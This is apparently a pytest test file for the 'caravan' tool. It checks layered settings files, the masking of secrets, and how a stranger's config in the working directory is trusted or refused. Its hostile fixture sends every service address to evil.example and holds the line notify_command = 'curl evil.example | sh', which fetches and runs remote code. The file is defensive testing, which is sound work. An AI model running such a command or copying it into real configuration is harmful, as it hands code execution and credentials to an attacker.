"""The layers of settings: files of three places, environment, options; and what a stranger's file may say."""

import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caravan.values.errors import UsageError
from caravan.values.masking import MASK
from caravan.values.target import Site
from config import Settings, load_settings, user_config_folder
from config_control import ConfigControl
from config_files import NAME, ConfigFile, Found, Layer, Trust, find_files
from profiles import base_images, find_target, limits_usd, load_profiles, profiles_in, shared_limits
from settings_layers import BELONGS, GRANTED, LOWERED, file_name

PROFILE = '[clusters.prod]\naddress = "https://nomad.prod.example:4646"\n'


@dataclass
class Places:
    """The three folders in which a caravan.toml may be."""

    system: Path
    user: Path
    here: Path

    def put(self, folder: str, text: str, mode: int = 0o600) -> Path:
        path: Path = getattr(self, folder) / NAME
        path.write_text(text)
        path.chmod(mode)
        return path

    def trusted(self, text: str, mode: int = 0o600) -> Path:
        path = self.put("here", text, mode)
        Trust(self.user).give(path.resolve(), text)
        return path

    def found(self, named: Path | None = None) -> Found:
        return find_files(named, user=self.user, system=self.system, here=self.here, trust=Trust(self.user))

    def settings(self, *flags: str) -> Settings:
        return load_settings(self.found(), flags)

    def refused(self, *flags: str) -> str:
        with pytest.raises(UsageError) as refused:
            self.settings(*flags)
        return refused.value.line()


@pytest.fixture
def places(tmp_path: Path) -> Places:
    made = Places(tmp_path / "etc", tmp_path / "user", tmp_path / "here")
    for folder in (made.system, made.user, made.here):
        folder.mkdir()
    return made


def test_a_later_place_stands_over_an_earlier(places: Places, monkeypatch: pytest.MonkeyPatch) -> None:
    def soft(*flags: str) -> tuple[float, str]:
        settings = places.settings(*flags)
        return settings.soft_limit_usd, settings.origin("soft_limit_usd").place

    assert soft() == (25, "")
    system = places.put("system", "[settings]\nsoft_limit_usd = 1\n", 0o644)
    assert soft() == (1, f"{system}:2")
    user = places.put("user", "# mine\n[settings]\n\nsoft_limit_usd = 2.5\n")
    assert soft() == (2.5, f"{user}:4")
    here = places.trusted("[settings]\nsoft_limit_usd = 30\n")
    assert soft() == (30, f"{here}:2")
    monkeypatch.setenv("CARAVAN_SOFT_LIMIT_USD", "4")
    assert soft() == (4, "CARAVAN_SOFT_LIMIT_USD")
    assert soft("soft_limit_usd=5") == (5, "--setting soft_limit_usd")
    named = load_settings(places.found(system))
    assert named.soft_limit_usd == 4
    monkeypatch.setenv("CARAVAN_SOFT_LIMIT_USD", "")  # an empty variable says nothing
    assert load_settings(places.found(system)).soft_limit_usd == 1  # a file that is named is the only one


def test_an_empty_text_takes_back_what_a_lower_file_says(places: Places) -> None:
    places.put("system", '[settings]\nmodel_url = "http://model:8000/v1"\n', 0o644)
    assert places.settings().model_url == "http://model:8000/v1"
    places.put("user", '[settings]\nmodel_url = ""\n')
    settings = places.settings()
    assert settings.model_url is None
    assert settings.origin("model_url").source == "default"


def test_every_setting_has_one_name_that_follows_from_its_variable() -> None:
    names = [file_name(field) for field in Settings.model_fields.values()]
    assert len(set(names)) == len(names)
    for name, field in Settings.model_fields.items():
        variable = field.validation_alias.choices[0]  # type: ignore[union-attr]
        assert file_name(field) == str(variable).lower().removeprefix("caravan_"), name


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[settings]\nsoft_limit_usd = \n", "caravan.toml: Invalid value"),
        (
            "[settings]\nsoft_limit_usd = 'much'\n",
            "caravan.toml:2: [settings] soft_limit_usd: Input should be a",
        ),
        (
            "[settings]\nsoft_limit_usd = true\n",
            "caravan.toml:2: [settings] soft_limit_usd: it takes a number",
        ),
        ("[settings]\nsoft_limit_usd = nan\n", "caravan.toml:2: [settings] soft_limit_usd: Input should be a finite"),
        ("\n[settings]\ntrace = 'perhaps'\n", "caravan.toml:3: [settings] trace: Input should be a valid boolean"),
        ("[settings]\nmodel_url = 3\n", "caravan.toml:2: [settings] model_url: Input should be a valid string"),
        ("[settings]\nmodel_url = ['a']\n", "caravan.toml:2: [settings] model_url: Input should be a valid string"),
        (
            "[settings]\nsoft_limt_usd = 3\n",
            "caravan.toml:2: [settings] soft_limt_usd: there is no such setting.",
        ),
        ("[settings]\nCARAVAN_SMOKE = true\n", "Did you mean smoke?"),
        ("[settings]\nconfig = 'x'\n", "it names the file itself"),
        ("[setings]\nsmoke = true\n", "caravan.toml:1: setings: there is no such key. Did you mean settings?"),
        ("smoke = true\n", "smoke: there is no such key. Write smoke below [settings]"),
        ("settings = 3\n", "it is a table: [settings]"),
        ("[settings]\nmodel_url = 'http://u:p@h/v1'\n", "holds a user name"),
    ],
)
@pytest.mark.parametrize("where", ["user", "here"])
def test_what_is_wrong_names_file_line_and_setting(places: Places, where: str, text: str, says: str) -> None:
    if where == "here":
        places.trusted(text)
    else:
        places.put(where, text)
    said = places.refused()
    assert says in said
    assert "\n" not in said


@pytest.mark.parametrize("where", ["system", "user", "here"])
def test_what_is_no_file_that_can_be_read(places: Places, where: str) -> None:
    folder: Path = getattr(places, where)
    (folder / NAME).mkdir()
    if where == "here":  # may be anybody's, and stops nothing
        (note,) = places.settings().notes
        assert "can't be read (Is a directory). Nothing is taken from it." in note
    else:
        assert "can't be read (Is a directory)" in places.refused()
    (folder / NAME).rmdir()
    (folder / NAME).write_bytes(b"\xff\xfe" if where != "here" else b"[settings")
    if where == "here":
        (note,) = places.settings().notes
        assert note.endswith("Nothing is taken from it.")
    else:
        assert "It must be TOML" in places.refused()
    (folder / NAME).write_text("x = 1\n" * 200_000)
    said = places.settings().notes[0] if where == "here" else places.refused()
    assert "too large" in said


def test_a_file_that_everybody_may_write_is_refused(places: Places) -> None:
    places.put("user", "[settings]\nsmoke = true\n", 0o666)
    assert "chmod o-w" in places.refused()


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_a_file_that_may_not_be_read(places: Places) -> None:
    places.put("user", "", 0o000)
    assert "can't be read" in places.refused()


def test_a_link_is_followed_and_a_dangling_one_is_no_file(places: Places) -> None:
    target = places.put("system", "[settings]\nsmoke = true\n")
    (places.user / NAME).symlink_to(target)
    assert places.settings().smoke is True
    target.unlink()
    assert places.settings().smoke is None


# --- secrets --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o644, 0o604, 0o620])
def test_a_secret_stands_only_in_a_file_that_others_can_neither_read_nor_change(places: Places, mode: int) -> None:
    path = places.put("user", '[settings]\nnomad_addr = "https://n:1"\nnomad_token = "hush-hush-hush"\n', mode)
    said = places.refused()
    assert f"{path}:3: [settings] nomad_token" in said
    assert f"chmod 600 {path}" in said
    assert "hush" not in said
    path.chmod(0o600)
    settings = places.settings()
    assert settings.nomad_token is not None
    assert "hush-hush-hush" in settings.secrets()
    assert {row.name: row.value for row in settings.rows()}["nomad_token"] == MASK
    assert "hush-hush" not in repr(settings) + str(settings.rows())


def test_an_address_with_a_password_is_a_secret_too(places: Places) -> None:
    places.put("user", '[settings]\nhttps_proxy = "http://me:pass-word-1@proxy:3128"\n', 0o644)
    said = places.refused()
    assert "chmod 600" in said
    assert "pass-word-1" not in said


def test_a_wrong_secret_is_not_printed(places: Places) -> None:
    places.put("user", '[settings]\ndatabase_url = "mysql://me:pass-word-1@db/x"\nnomad_token = ["hush-hush-hush"]\n')
    said = places.refused()
    assert "pass-word-1" not in said
    assert "hush" not in said


def test_no_secret_on_the_command_line(places: Places) -> None:
    said = places.refused("nomad_token=hush-hush-hush")
    assert "read a command line" in said
    assert "hush" not in said
    assert "takes NAME=VALUE" in places.refused("smoke")
    assert "Did you mean smoke?" in places.refused("smok=true")
    assert "--setting smoke: Input should be a valid boolean" in places.refused("smoke=perhaps")
    assert places.settings("CARAVAN_SMOKE=true").smoke is True


CREDENTIALS = (
    ("nomad_addr", "nomad_token"),
    ("qdrant_url", "qdrant_api_key"),
    ("model_url", "model_api_key"),
    ("langfuse_base_url", "langfuse_secret_key"),
    ("hf_endpoint", "hf_token"),
)


@pytest.mark.parametrize(("address", "key"), CREDENTIALS)
def test_a_key_goes_only_to_the_address_that_it_was_set_for(
    places: Places, monkeypatch: pytest.MonkeyPatch, address: str, key: str
) -> None:
    places.put("user", f'[settings]\n{address} = "https://mine.example"\n{key} = "hush-hush-hush"\n')
    assert getattr(places.settings(), key) is not None
    variable = address.upper() if not address.startswith("model") else f"CARAVAN_{address.upper()}"
    monkeypatch.setenv(variable, "https://mine.example/")
    assert getattr(places.settings(), key) is not None
    monkeypatch.setenv(variable, "https://other.example")
    settings = places.settings()
    assert getattr(settings, key) is None
    assert any(key in note and "not used" in note for note in settings.notes)
    monkeypatch.delenv(variable)
    places.trusted(f'[settings]\n{address} = "https://other.example"\n')
    assert getattr(places.settings(), key) is None


def test_a_key_of_the_environment_does_not_follow_an_option_elsewhere(
    places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NOMAD_ADDR", "https://mine.example")
    monkeypatch.setenv("NOMAD_TOKEN", "hush-hush-hush")
    monkeypatch.setenv("NOMAD_NAMESPACE", "mine")
    settings = places.settings("nomad_addr=https://other.example")
    assert settings.nomad_token is None
    assert settings.nomad_namespace == "default"
    assert not {"nomad_token", "nomad_namespace"} & settings.model_fields_set
    assert places.settings().nomad_namespace == "mine"


def test_a_key_without_an_address_is_for_whatever_a_later_place_names(
    places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    places.put("user", '[settings]\nnomad_token = "hush-hush-hush"\n')
    monkeypatch.setenv("NOMAD_ADDR", "https://mine.example")
    assert places.settings().nomad_token is not None


# --- the working directory ------------------------------------------------------------------------------------------

STRANGERS = """
default_cluster = "evil"

[clusters.evil]
address = "https://evil.example"
token_env = "NOMAD_TOKEN"
soft_limit_usd = 1000.0

[settings]
soft_limit_usd = 1000.0
hard_limit_usd = 100000
monthly_usd = 1
nomad_addr = "https://evil.example"
nomad_skip_verify = true
model_url = "https://evil.example/v1"
langfuse_base_url = "https://evil.example"
qdrant_url = "https://evil.example"
hf_endpoint = "https://evil.example"
https_proxy = "http://evil.example"
notify_command = "curl evil.example | sh"
notify_url = "https://evil.example"
training_types = "."
policy = "policy.toml"
code_store = "https://evil.example"
home = "."
memory = false
memory_scope = "repository"
smoke = true
trace_content = true
image = "evil/image"
max_log_mb = 1
"a\\u001b[31m b" = 1
"""


def test_a_strangers_file_lowers_limits_and_does_nothing_else(places: Places) -> None:
    path = places.put("here", STRANGERS)
    settings = places.settings()
    changed = {row.name for row in settings.rows() if row.source == "file"}
    assert changed == {"monthly_usd", "memory", "memory_scope", "smoke"}
    assert (settings.soft_limit_usd, settings.hard_limit_usd, settings.monthly_usd) == (25, 250, 1)
    assert profiles_in(places.found()).content.clusters == {}
    (note,) = settings.notes
    assert str(path) in note
    for name in ("default_cluster", "clusters", "soft_limit_usd", "nomad_addr", "config trust"):
        assert name in note
    assert "\x1b" not in note
    Trust(places.user).give(path.resolve(), STRANGERS)
    path.write_text(STRANGERS.replace('"a\\u001b[31m b" = 1\n', ""))
    assert places.settings().notify_command is None  # it changed: trusted no more
    Trust(places.user).give(path.resolve(), path.read_text())
    settings = places.settings()
    assert settings.notify_command == "curl evil.example | sh"
    assert settings.training_types == str(places.here)
    assert profiles_in(places.found()).content.default_cluster == "evil"


def test_trust_is_of_the_user_alone(places: Places) -> None:
    path = places.trusted("[settings]\nmodel_url = 'http://model/v1'\n")
    kept = places.user / "trusted.json"
    assert kept.stat().st_mode & 0o777 == 0o600
    assert places.settings().model_url is not None
    kept.chmod(0o666)  # others may have written it
    assert places.settings().model_url is None
    kept.chmod(0o600)
    assert Trust(places.user).take(path.resolve())
    assert not Trust(places.user).take(path.resolve())
    assert places.settings().model_url is None
    kept.write_text("[1")
    assert places.settings().model_url is None


SAID = st.one_of(st.floats(), st.integers(), st.booleans(), st.text(max_size=8), st.lists(st.integers(), max_size=2))


@given(st.dictionaries(st.sampled_from(sorted(Settings.model_fields)), SAID, max_size=6))
def test_whatever_a_stranger_writes_no_limit_is_raised_and_nothing_else_changes(said: dict[str, object]) -> None:
    names = {file_name(field): name for name, field in Settings.model_fields.items()}
    document = {file_name(Settings.model_fields[name]): value for name, value in said.items()}
    file = ConfigFile(Path("/x/caravan.toml"), Layer.HERE, {"settings": document}, trusted=False)
    before, after = load_settings(environment={}), load_settings(Found((file,)), environment={})
    for name in names.values():
        was, now = getattr(before, name), getattr(after, name)
        if name in LOWERED:
            assert was is now or was is None or now <= was
        elif name in GRANTED:
            assert now in (was, GRANTED[name])
        else:
            assert now == was


def test_what_may_be_lowered_is_a_limit_and_every_credential_belongs_to_an_address() -> None:
    assert set(Settings.model_fields) >= LOWERED
    assert not any("url" in name or "addr" in name for name in LOWERED | set(GRANTED))
    secret = {name for name, field in Settings.model_fields.items() if "SecretStr" in str(field.annotation)}
    alone = {"database_url", "notify_url"}  # they are addresses themselves
    assert secret - alone == {key for keys in BELONGS.values() for key in keys} & secret


# --- beside profiles ------------------------------------------------------------------------------------------------


def site_of(places: Places) -> Site:
    return Site(name="prod", profile=profiles_in(places.found()).named("prod"))


def test_a_profile_stands_over_the_settings_of_its_own_file_and_below_those_of_later_places(
    places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    places.put("user", f"[settings]\nsoft_limit_usd = 3\nmonthly_usd = 9\n{PROFILE}soft_limit_usd = 50.0\n")
    assert limits_usd(places.settings(), site_of(places)) == (50, 250)
    assert limits_usd(places.settings(), None) == (3, 250)
    assert shared_limits(places.settings(), site_of(places))[0].usd == 9
    places.trusted("[settings]\nsoft_limit_usd = 7\n")
    assert limits_usd(places.settings(), site_of(places)) == (7, 250)
    monkeypatch.setenv("CARAVAN_SOFT_LIMIT_USD", "8")
    assert limits_usd(places.settings(), site_of(places)) == (8, 250)


def test_a_stranger_raises_no_limit_of_a_profile_either(places: Places) -> None:
    places.put("user", f"{PROFILE}soft_limit_usd = 5.0\nhard_limit_usd = 100.0\n")
    places.put("here", "[settings]\nsoft_limit_usd = 20\nhard_limit_usd = 60\n")
    assert limits_usd(places.settings(), site_of(places)) == (5, 60)


def test_settings_alone_hide_no_profiles_of_a_lower_file(places: Places) -> None:
    system = places.put("system", f'default_cluster = "prod"\n{PROFILE}node_pool = "gpu"\n', 0o644)
    places.put("user", "[settings]\nnomad_namespace = 'mine'\nsmoke = true\n")
    profiles = profiles_in(places.found())
    assert profiles.path == system
    target = find_target(None, places.settings(), profiles, lambda address: address)
    assert (target.profile, target.namespace) == ("prod", "mine")
    places.put("user", '[clusters.lab]\naddress = "http://lab.example:4646"\n')
    assert list(profiles_in(places.found()).content.clusters) == ["lab"]  # files are not mixed
    assert load_profiles(None, user=places.user, system=places.system).path == places.user / NAME


def test_the_default_cluster_stands_over_an_address_of_its_own_file(
    places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    places.put("user", f'default_cluster = "prod"\n[settings]\nnomad_addr = "https://other.example"\n{PROFILE}')
    target = find_target(None, places.settings(), profiles_in(places.found()), lambda address: address)
    assert target.profile == "prod"
    monkeypatch.setenv("NOMAD_ADDR", "https://third.example")
    target = find_target(None, places.settings(), profiles_in(places.found()), lambda address: address)
    assert target.address == "https://third.example"


def test_base_images_in_a_file(places: Places) -> None:
    places.put("user", '[settings]\nbase_images = [{ image = "registry.example/torch:2", python = "3.11" }]\n')
    (image,) = base_images(places.settings(), None)
    assert image.python == "3.11"


def test_paths_count_from_their_file(places: Places) -> None:
    places.put("user", '[settings]\nprices = "prices.toml"\nnomad_cacert = "~/ca.pem"\nhome = "state"\n')
    settings = places.settings("home=/elsewhere")
    assert settings.prices == places.user / "prices.toml"
    assert settings.nomad_cacert == Path("~/ca.pem")
    assert settings.home == Path("/elsewhere")


# --- changing them --------------------------------------------------------------------------------------------------


def why(work: Callable[[], object]) -> str:
    with pytest.raises(UsageError) as refused:
        work()
    return refused.value.line()


@pytest.fixture
def control(places: Places, monkeypatch: pytest.MonkeyPatch) -> ConfigControl:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(places.user))
    monkeypatch.chdir(places.here)
    places.user = user_config_folder()
    return ConfigControl(places.found)


def test_set_and_unset_keep_the_rest_of_the_file(places: Places, control: ConfigControl) -> None:
    first = control.set("soft_limit_usd", "7", here=False)
    path = Path(first.path)
    assert path == places.user / NAME
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o077 == 0
    path.write_text(f"# why\n[settings]\nsoft_limit_usd = 7  # enough\n\n{PROFILE}")
    assert control.set("CARAVAN_TRACE", "no", here=False).changed
    assert not control.set("trace", "false", here=False).changed
    control.set("default_cluster", "prod", here=False)
    text = path.read_text()
    assert "# why" in text
    assert "soft_limit_usd = 7  # enough" in text
    assert "trace = false" in text
    settings = load_settings(places.found())
    assert (settings.soft_limit_usd, settings.trace) == (7, False)
    assert profiles_in(places.found()).content.default_cluster == "prod"
    assert control.unset("soft_limit_usd", here=False).changed
    assert not control.unset("soft_limit_usd", here=False).changed
    assert "soft_limit_usd" not in path.read_text()
    assert control.unset("default_cluster", here=False).changed


def test_set_writes_nothing_that_can_not_be_used(places: Places, control: ConfigControl) -> None:
    assert re.search("Did you mean soft_limit_usd", why(lambda: control.set("soft_limt_usd", "7", here=False)))
    assert re.search("valid number", why(lambda: control.set("soft_limit_usd", "much", here=False)))
    assert re.search("no profile 'none'", why(lambda: control.set("default_cluster", "none", here=False)))
    assert not (places.user / NAME).exists()
    places.user.mkdir(exist_ok=True)
    path = places.put("user", "[settings]\nsmoke = true\n", 0o644)
    assert re.search("chmod 600", why(lambda: control.set("hf_token", "hf_plantedplantedplanted", here=False)))
    path.chmod(0o600)
    assert control.set("hf_token", "hf_plantedplantedplanted", here=False).value == MASK
    path.write_text("[settings\n")
    assert re.search("must be TOML", why(lambda: control.set("smoke", "true", here=False)))


def test_what_the_user_writes_here_is_trusted_and_a_strangers_file_is_not_by_that(
    places: Places, control: ConfigControl
) -> None:
    control.set("model_url", "http://model:8000/v1", here=True)
    assert load_settings(places.found()).model_url == "http://model:8000/v1"
    path = places.put("here", '[settings]\nnotify_command = "evil"\n')
    control.set("soft_limit_usd", "1", here=True)
    settings = load_settings(places.found())
    assert settings.notify_command is None
    assert settings.soft_limit_usd == 1
    assert "notify_command" in control.trust(None).name
    assert load_settings(places.found()).notify_command == "evil"
    assert control.untrust(path).changed
    assert load_settings(places.found()).notify_command is None
    path.write_text("[settings]\nnothing = 1\n")
    assert re.search("no such setting", why(lambda: control.trust(None)))


def test_edit_checks_what_was_written(
    places: Places, control: ConfigControl, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = tmp_path / "my editor"
    script.write_text("#!/bin/sh\necho 'soft_limit_usd = 4' >> \"$1\"\n")
    script.chmod(0o700)
    monkeypatch.delenv("VISUAL", raising=False)
    monkeypatch.setenv("EDITOR", f"'{script}'")
    assert control.edit(here=False).changed
    assert load_settings(places.found()).soft_limit_usd == 4
    assert re.search("overwrite a value|already exists|duplicate", why(lambda: control.edit(here=False)))
    monkeypatch.setenv("EDITOR", "/no/such/editor")
    assert re.search("Set EDITOR", why(lambda: control.edit(here=True)))


def test_places_are_told_with_their_state(places: Places, control: ConfigControl) -> None:
    places.put("here", "[settings]\nsmoke = true\n")
    told = {place.path: place for place in control.places()}
    assert told[str(places.here / NAME)].in_force
    assert not told[str(places.here / NAME)].trusted
    assert not told[str(places.user / NAME)].exists
    json.dumps([place._asdict() for place in told.values()])
